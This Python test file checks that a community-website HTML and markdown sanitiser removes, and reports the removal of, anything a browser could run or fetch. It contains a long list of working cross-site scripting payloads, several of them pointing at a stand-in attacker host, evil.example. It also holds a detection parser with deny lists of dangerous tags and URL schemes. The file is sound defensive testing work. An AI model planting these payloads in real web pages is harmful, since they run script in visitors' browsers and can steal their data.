"""Nothing that runs comes through, nothing is taken out in silence, and ordinary pages lose nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hyperlocal.content import engine
from hyperlocal.content.markup import Text, convert
from hyperlocal.content.sanitise import TAG, attributes_of, sanitise
from tests.content.awkward import texts
from tests.content.corpus import posts

RUNS_OR_LOADS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form", "input"}
    | {"button", "select", "textarea", "base", "meta", "link", "template", "noscript", "title", "xmp", "plaintext"}
    | {"isindex", "marquee", "keygen", "portal", "html", "body", "head", "foreignobject", "animate", "set", "image"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto", "tel", "sms", "webcal", "geo", "xmpp", "file"})


class Danger(HTMLParser):
    """What a browser could run or fetch by itself, found by a parser that has nothing to do with ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNS_OR_LOADS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            # Browsers drop tabs and line ends inside an address, and control characters before it.
            address = re.sub(r"[\t\n\r]", "", value or "").lstrip("".join(map(chr, range(33))))
            scheme = re.match(r"([a-zA-Z][\w+.-]*):", address)
            if name.startswith("on") or name in ("srcdoc", "srcset", "formaction", "action", "xlink:href", "ping"):
                self.found.append(name)
            elif name in ("href", "src", "poster", "cite", "data", "background", "longdesc") and scheme:
                if len(scheme[1]) > 1 and scheme[1].casefold() not in SAFE_SCHEMES:
                    self.found.append(f"{name}={scheme[1]}")
            elif name == "style" and re.search(r"url|expression|position|import|behavior|\\|/\*", value or ""):
                self.found.append(f"style={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


def danger(html: str) -> list[str]:
    parser = Danger()
    parser.feed(html)
    parser.close()
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<p>words <script\n>alert(1)</script\n> more</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror = "alert(1)">',
    "<img src=x\nonerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover='alert(1)'>words</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<div onpointerrawupdate=alert(1) style='position:fixed'>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='jar:javascript:alert(1)'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<video poster='javascript:alert(1)'></video>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe/onload=alert(1)>",
    "<iframe src='https://evil.example/' onload='alert(1)'></iframe>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></mtext><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>Go</button>",
    "<style>*{background:url('https://evil.example/')}</style>",
    "<style>@import 'https://evil.example/';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='text-align:center;background-image:url(//evil.example)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://example.org' ping='https://evil.example/'>x</a>",
    "<img src=x srcset='javascript:alert(1) 1x'>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<isindex action='javascript:alert(1)'>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onchange=alert(1)><option>1</option></select>",
    '<a href="x"onclick=alert(1)>x</a>',
    "<p>words <img src=x onerror=alert(1)",
    "<div><img src=x onerror=alert(1) </div>",
    "<div><a href='javascript:alert(1)",
    "<div><script",
]  # fmt: skip


@pytest.mark.parametrize("html", ATTACKS)
def test_nothing_that_runs_comes_through_and_its_owner_is_told(html: str) -> None:
    clean, removed = sanitise(html)
    assert danger(clean) == []
    assert removed, "it was taken out in silence"


@pytest.mark.parametrize("html", ATTACKS)
def test_the_same_inside_markdown(html: str) -> None:
    for body in (f"Words\n\n{html}\n\nWords", f"Words {html} words", f"- item\n\n    {html}", f"> {html}", f"# {html}"):
        assert danger(convert(Text(body=body)).html) == []


@pytest.mark.parametrize(
    "body",
    [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](JAVASCRIPT&#58;alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html,hello)",
        "[x](vbscript:x 'title')",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "<javascript:alert(1)>",
        '[x](a.md){: onclick="alert(1)" }',
        "[x](a.md){: href=javascript:alert(1) }",
        "![x](a.jpg){: onerror=alert(1) src=javascript:alert(1) }",
        "Words\n{: onmouseover=alert(1) }",
        "# Heading {: onclick=alert(1) }",
        "| a |\n|---|\n| b {: onclick=alert(1) } |",
        "*x*{: style='background:url(//evil.example)' }",
        "``` { .py onclick=alert(1) }\ncode\n```",
        '*[HTML]: "><script>alert(1)</script>\n\nHTML',
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "Term\n:   <img src=x onerror=alert(1)>",
        '!!! note "<img src=x onerror=alert(1)>"\n    Words',
        "[[<img src=x onerror=alert(1)>]]",
        "https://example.org/<script>alert(1)</script>",
        'https://example.org/"onmouseover="alert(1)',
        '[x](https://example.org/"onmouseover="alert(1))',
        '<https://example.org/"onmouseover=alert(1)>',
    ],
)
def test_markdown_itself_makes_nothing_that_runs(body: str) -> None:
    assert danger(convert(Text(body=body)).html) == []


def test_comments_go_without_a_word() -> None:
    clean, removed = sanitise("<p>a<!-- Jo: is this right? --><!--[if IE]><script>alert(1)</script><![endif]-->b</p>")
    assert clean == "<p>ab</p>" and removed == ()


@pytest.mark.parametrize(
    ("html", "what"),
    [
        ("<p onclick='x()'>a</p>", "“onclick” on <p>"),
        ("<script>x()</script>", "<script>"),
        ("<a href='javascript:x()'>a</a>", "a link that starts with “javascript:”"),
        ("<a href='java\nscript:x()'>a</a>", "a link that starts with “javascript:”"),
        ("<a href='http://two words.example/'>a</a>", "the impossible address “http://two words.example/”"),
        ("<form><input></form>", "<form>"),
        ("<iframe src='x.html'></iframe>", "an <iframe>"),
        ("<div><img src='a.jpg'<br>words</div>", "<img with all up to the next “>”, which it lacks,"),
    ],
)
def test_what_was_taken_out_is_named(html: str, what: str) -> None:
    _, removed = sanitise(html)
    assert removed[0].what == what and not removed[0].looks


def test_each_kind_of_thing_is_told_once() -> None:
    _, removed = sanitise("<p onclick='a()'>1</p><p onclick='b()'>2</p><div onclick='c()'>3</div>")
    assert [one.what for one in removed] == ["“onclick” on <p>", "“onclick” on <div>"]


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("<center>a</center>", "<div>a</div>"),
        ("<CENTER>a</CENTER>", "<div>a</div>"),
        ("<p><font color='red' size=2>a</font></p>", "<p><span>a</span></p>"),
        ("<p><strike>a</strike> <tt>b</tt></p>", "<p><s>a</s> <code>b</code></p>"),
        ('<img border=1 hspace="2" src="a.jpg">', '<img src="a.jpg">'),
        ("<table cellpadding=1><tr><td width=9>a</table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"),
        ('<p style="color: red; text-align: right">a</p>', '<p style="text-align:right">a</p>'),
        ('<p data-id="7">a</p>', "<p>a</p>"),
    ],
)
def test_what_only_changes_the_look_keeps_its_words(html: str, clean: str) -> None:
    found, removed = sanitise(html)
    assert found == clean
    assert all(one.looks for one in removed)


def test_an_old_named_place_can_still_be_linked_to() -> None:
    assert sanitise('<a name="opening-hours"></a>') == ('<a id="opening-hours"></a>', ())


@pytest.mark.parametrize(
    ("html", "address", "words"),
    [
        (
            '<iframe width="56" src="https://www.youtube.com/embed/abc_1-2" title="Our hall" allowfullscreen></iframe>',
            "https://www.youtube.com/watch?v=abc_1-2",
            "Our hall",
        ),
        (
            "<iframe src='//www.map.example/export?a=1&amp;layer=2'><p>No frames?</p></iframe>",
            "https://www.map.example/export?a=1&amp;layer=2",
            "Open this at map.example",
        ),
        ("<IFRAME SRC='https://example.org/'>", "https://example.org/", "Open this at example.org"),
        (
            "<iframe src='https://a.example/' title='<b>&quot;1</b>'></iframe>",
            "https://a.example/",
            '&lt;b&gt;"1&lt;/b&gt;',
        ),
    ],
)
def test_a_window_onto_another_website_becomes_a_link(html: str, address: str, words: str) -> None:
    clean, removed = sanitise(html)
    assert clean == f'<a class="embed" href="{address}">{words}</a>'
    assert [one.what for one in removed] == ["an <iframe> (a window onto another website; a link to it was put there)"]


ORDINARY = (
    '<h2 id="a">A</h2><p class="note" lang="cy" dir="ltr" title="t">a<br>b <em>c</em> <strong>d</strong> <u>e</u></p>'
    '<ol start="3" type="a"><li value="4">x</li></ol><dl><dt>t</dt><dd>d</dd></dl><hr><pre><code>a</code></pre>'
    '<table><caption>c</caption><thead><tr><th scope="col" style="text-align:right">h</th></tr></thead>'
    '<tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    '<figure><img src="a b.jpg" alt="x" width="4" height="3"><figcaption>f</figcaption></figure>'
    '<audio src="a.mp3" controls=""></audio><video poster="p.jpg"><track src="t.vtt" kind="captions"></video>'
    '<details open=""><summary>s</summary>d</details><blockquote>q</blockquote>'
    '<a href="mailto:hello@example.org">m</a><a href="tel:+441214960000">t</a><a href="../pages/about.md#x">r</a>'
    '<a href="C:\\Users\\Jo\\minutes.doc">c</a><a href="file:///C:/x">f</a><a href="a:b">o</a>'
    '<sup>1</sup><kbd>k</kbd><abbr title="t">a</abbr><time datetime="2026-05-06">6 May</time><mark>m</mark><del>d</del>'
)


def test_ordinary_html_loses_nothing() -> None:
    clean, removed = sanitise(ORDINARY)
    assert clean == ORDINARY and removed == ()


def test_ordinary_markdown_loses_nothing() -> None:
    body = (
        "# Title\n\nWords with **bold**, [a link](x.md 'title'), ![photo](a.jpg){: .wide } and <br> `code`.\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\nTerm\n:   Definition\n\n!!! note\n    Box\n\nNote[^1]\n\n[^1]: Here.\n\n"
        "``` python\ncode\n```\n\n*[WI]: Women's Institute\n\nThe WI\n\n## Part {#part .c}\n\n[TOC]\n"
    )
    assert convert(Text(body=body)).remarks == ()


def test_trusted_html_is_published_as_it_is() -> None:
    html = '<form action="https://pay.example/"><input name="amount" onchange="sum()"></form>'
    document = convert(Text(body=f"{html}\n\n<script>\nsum();\n</script>", trusted=True))
    assert html in document.html and "<script>\nsum();\n</script>" in document.html
    assert document.remarks == ()


class Parts(HTMLParser):
    """Every start tag and attribute, in order."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag,), *((tag, name) for name, _ in attrs)]


def parts(html: str) -> list[tuple[str, ...]]:
    parser = Parts()
    parser.feed(html)
    parser.close()
    return parser.found


TAGS = ("p", "a", "img", "b", "div", "span", "em", "script", "form", "svg", "button", "label", "object", "video", "u")
ATTRIBUTES = ("href", "src", "class", "id", "onclick", "style", "alt", "title", "target", "width", "data-x", "is")
VALUES = ("x", "https://example.org/", "javascript:x", "java&#10;script:x", "http://a b/", "http://[", "color:red", "")


def element(tag: str, attributes: dict[str, str]) -> str:
    written = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f"<{tag}{written}>words</{tag}>"


ELEMENTS = st.builds(
    element, st.sampled_from(TAGS), st.dictionaries(st.sampled_from(ATTRIBUTES), st.sampled_from(VALUES), max_size=4)
)


@settings(max_examples=100, deadline=None)
@given(st.lists(ELEMENTS, max_size=4).map("\n".join))
@example('<a href="http://a b/">words</a>')
def test_nothing_goes_in_silence(html: str) -> None:
    clean, removed = sanitise(html)
    assert danger(clean) == []
    assert removed or sorted(parts(html)) == sorted(parts(clean))
    assert sanitise(clean) == (clean, ())


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/\"'= &;:!-abhopsx\n\t")), max_size=60))
def test_no_heap_of_brackets_and_quotes_comes_through_as_danger(html: str) -> None:
    assert danger(sanitise(html)[0]) == []


@pytest.mark.parametrize(
    "piece", ["<a ", '<a "', "<!--", "<iframe>", "<iframe ", "<p a='", "</", "<p a=b ", "<!-- <iframe "]
)
def test_traps_for_patterns_do_not_hang(piece: str) -> None:
    clean, _ = sanitise(piece * 20_000)
    assert danger(clean) == []


def test_attributes_are_found_where_they_stand() -> None:
    text = " href='a&amp;b' Alt=\"x > y\" checked width=3"
    found = list(attributes_of(text))
    assert [(name, value) for name, value, _, _ in found] == [
        ("href", "a&b"), ("alt", "x > y"), ("checked", ""), ("width", "3"),
    ]  # fmt: skip
    assert [text[start:end] for _, _, start, end in found] == ["href='a&amp;b'", 'Alt="x > y"', "checked", "width=3"]


def test_a_tag_ends_at_its_own_bracket() -> None:
    assert [match[0] for match in TAG.finditer("<a title='1 > 0'>x</a> 5 < 6 <!-- <b> --><i>")] == [
        "<a title='1 > 0'>", "</a>", "<!-- <b> -->", "<i>",
    ]  # fmt: skip


def test_what_is_taken_for_harmless_has_nothing_to_take_out() -> None:
    """`<i>` is not in the short list of what is let through at once, and harmless: with it everything is looked at."""
    taken = 0
    for text in [*texts(1_500, seed=21), *posts(60, seed=21)]:
        html = engine.to_html(text.body)
        assert sanitise(html)[1] == sanitise(f"{html}<i></i>")[1], html
        taken += "<" not in re.sub(r"</?(?:p|em|strong|li|ul|h2)>", "", html)
    assert taken > 100


@pytest.mark.parametrize(
    "html",
    [
        '<a href="javascript:x">a</a>', '<a href="https://a b/">a</a>', '<p href="x">a</p>', '<img src="x" href="y">',
        '<p style="text-align: left; color: red">a</p>', '<p onclick="x">a</p>', '<a src="x">a</a>',
        '<p start="2">a</p>', '<a href="java&#115;cript:x">a</a>', '<a href="x&colon;y">a</a>',
        "<p>a<script>b</script></p>", "<p>a<b</p>", "<!-- a --><p>b</p>", '<ol start="2" onclick="x"><li>a</li></ol>',
        '<a href="https://a.org" target="_blank">a</a>', '<td headers="x" colspan="2" width="3">a</td>',
        '<a href="data:x">a</a>', '<a href=" ftp://a">a</a>', "<font>a</font>",
    ],
)  # fmt: skip
def test_what_is_not_harmless_is_looked_at(html: str) -> None:
    assert sanitise(html) == (sanitise(html)[0], sanitise(f"{html}<i></i>")[1])
